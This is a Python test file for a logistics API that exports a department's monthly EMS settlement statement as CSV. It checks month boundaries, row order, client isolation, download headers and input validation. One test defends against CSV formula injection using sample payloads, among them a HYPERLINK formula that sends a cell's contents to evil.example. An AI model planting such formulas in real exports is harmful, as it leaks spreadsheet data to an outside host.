"""GET /v1/statements: a department's month for the EMS 月结 settlement, as CSV. Its rows are exactly the client's
shipments of the department handed to the post (first non-refused ``picked_up``) in that Beijing month."""

from __future__ import annotations

from aiohttp.test_utils import TestClient
from sqlalchemy import update
from statement_support import MARKET, Make, beijing, ids_of, problem, read_csv, refused_pickup, statement

from logistics.accounts.clients import Credentials
from logistics.domain.tables import shipments
from logistics.statement import HEADER
from logistics.storage.db import Database

from support import auth


async def test_the_rows_are_the_shipments_handed_to_the_post_in_that_beijing_month(
    api: TestClient, hall: Credentials, db: Database, make: Make
) -> None:
    october_last = await make("1295780512499", "2026-10-31 23:30")  # 15:30 UTC on the 31st
    november_first = await make("1295780512502", "2026-11-01 00:10")  # 16:10 UTC on 31 October
    november_last = await make("1295780512516", "2026-11-30 23:59:59")
    await make("1295780512520", "2026-12-01 00:00")  # December by its first second
    await make(None, None)  # made in November, still waiting for the courier
    await make("1295780512533", "2026-11-12 10:00", department="上街区民政局")  # another department
    late = await make("1295780512547", "2026-12-02 09:00")
    await refused_pickup(db, late, beijing("2026-11-20 09:00"))  # refused: never a hand-over

    november = await statement(api, hall, "2026-11")
    assert ids_of(november) == [november_first, november_last]
    assert [r[1] for r in november[1:]] == ["2026-11-01", "2026-11-30"]
    assert ids_of(await statement(api, hall, "2026-10")) == [october_last]
    assert (await statement(api, hall, "2026-10"))[1][1] == "2026-10-31"


async def test_a_row_names_waybill_date_kind_payment_and_every_case(
    api: TestClient, hall: Credentials, make: Make
) -> None:
    cases = [
        {"case_no": "410106-2018-00095", "item_name": "食品经营许可证核发"},
        {"case_no": "410106-2018-00096", "item_name": "食品经营许可证变更"},
    ]
    delivery = await make("1295780512499", "2026-11-03 10:00", cases=cases)
    intake = await make("1295780512502", "2026-11-03 11:00", kind="intake", payment_mode="sender_pays")
    rows = await statement(api, hall, "2026-11")
    assert rows == [
        list(HEADER),
        ["1295780512499", "2026-11-03", "送达", "月结", "410106-2018-00095;410106-2018-00096", delivery],
        ["1295780512502", "2026-11-03", "寄件", "寄付", "410106-2018-00107", intake],
    ]
    assert rows[0] == ["运单号", "交寄日期", "类型", "付款方式", "办件编号", "寄递编号"]


async def test_rows_are_ordered_by_date_then_waybill(api: TestClient, hall: Credentials, make: Make) -> None:
    third = await make("1295780512600", "2026-11-05 08:00")
    second = await make("1295780512599", "2026-11-05 17:45")  # later that day, smaller waybill: before
    first = await make("1295780512700", "2026-11-04 23:59")
    assert ids_of(await statement(api, hall, "2026-11")) == [first, second, third]


async def test_another_clients_shipments_are_never_in_a_statement(
    api: TestClient, hall: Credentials, other_hall: Credentials, make: Make
) -> None:
    ours = await make("1295780512499", "2026-11-10 09:00")
    theirs = await make("1295780512502", "2026-11-10 09:30", creds=other_hall)
    assert ids_of(await statement(api, hall, "2026-11")) == [ours]
    assert ids_of(await statement(api, other_hall, "2026-11")) == [theirs]


async def test_a_department_without_shipments_that_month_is_the_header_alone(
    api: TestClient, hall: Credentials, make: Make
) -> None:
    await make("1295780512499", "2026-11-10 09:00")
    assert await statement(api, hall, "2026-09") == [list(HEADER)]
    assert await statement(api, hall, "2026-11", department="上街区人力资源和社会保障局") == [list(HEADER)]


async def test_no_cell_can_start_a_formula(api: TestClient, hall: Credentials, make: Make) -> None:
    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+8613812345678", "-1+1", "@SUM(A1:A9)"]
    cases = [{"case_no": c, "item_name": "食品经营许可证核发"} for c in hostile]
    sid = await make("1295780512499", "2026-11-10 09:00", cases=cases[:1])
    await make("1295780512502", "2026-11-11 09:00", cases=cases[1:])
    rows = await statement(api, hall, "2026-11")
    assert rows[1][4] == "'" + hostile[0]
    assert rows[2][4] == "'" + ";".join(hostile[1:])
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), row
    assert rows[1][5] == sid


async def test_the_statement_is_a_download_excel_reads(api: TestClient, hall: Credentials, make: Make) -> None:
    await make("1295780512499", "2026-11-10 09:00")
    resp = await api.get("/v1/statements", params={"department": MARKET, "month": "2026-11"}, headers=auth(hall))
    body = await resp.read()
    assert body.startswith(b"\xef\xbb\xbf\xe8\xbf\x90\xe5\x8d\x95\xe5\x8f\xb7,")  # BOM, then 运单号
    assert body.count(b"\r\n") == 2  # CRLF line ends
    assert resp.headers["Content-Disposition"] == (
        "attachment; filename=\"statement-2026-11.csv\"; filename*=UTF-8''"
        "%E4%B8%8A%E8%A1%97%E5%8C%BA%E5%B8%82%E5%9C%BA%E7%9B%91%E7%9D%A3%E7%AE%A1%E7%90%86%E5%B1%80-2026-11.csv"
    )
    assert resp.headers["X-Statement-Rows"] == "1"
    assert resp.headers["Cache-Control"] == "private, no-store"
    assert read_csv(body)[1][0] == "1295780512499"


async def test_a_missing_or_malformed_month_or_department_is_a_400_naming_it(
    api: TestClient, hall: Credentials
) -> None:
    cases = [
        ({"department": MARKET}, ["month"]),
        ({"department": MARKET, "month": "2026-13"}, ["month"]),
        ({"department": MARKET, "month": "2026-1"}, ["month"]),
        ({"department": MARKET, "month": "1999-12"}, ["month"]),
        ({"department": MARKET, "month": "2026-11-01"}, ["month"]),
        ({"month": "2026-11"}, ["department"]),
        ({"department": "  ", "month": "2026-11"}, ["department"]),
        ({"department": "上街区\x00市场监督管理局", "month": "2026-11"}, ["department"]),
        ({"department": "局" * 101, "month": "2026-11"}, ["department"]),
        ({}, ["department", "month"]),
    ]
    for params, fields in cases:
        resp = await api.get("/v1/statements", params=params, headers=auth(hall))
        body = await problem(resp, 400)
        assert [e["field"] for e in body["errors"]] == fields, params


async def test_a_statement_needs_the_clients_key(api: TestClient) -> None:
    resp = await api.get("/v1/statements", params={"department": MARKET, "month": "2026-11"})
    await problem(resp, 401)


async def test_a_carrier_clock_a_little_ahead_of_ours_does_not_lose_a_row(
    api: TestClient, hall: Credentials, db: Database, make: Make
) -> None:
    # EMS stamped the collection 00:00:30 on 1 November; we recorded it (updated_at) 10 seconds before midnight.
    sid = await make("1295780512499", "2026-11-01 00:00:30")
    async with db.write() as conn:
        recorded = beijing("2026-10-31 23:59:50")
        await conn.execute(update(shipments).where(shipments.c.id == sid).values(updated_at=recorded))
    assert ids_of(await statement(api, hall, "2026-11")) == [sid]
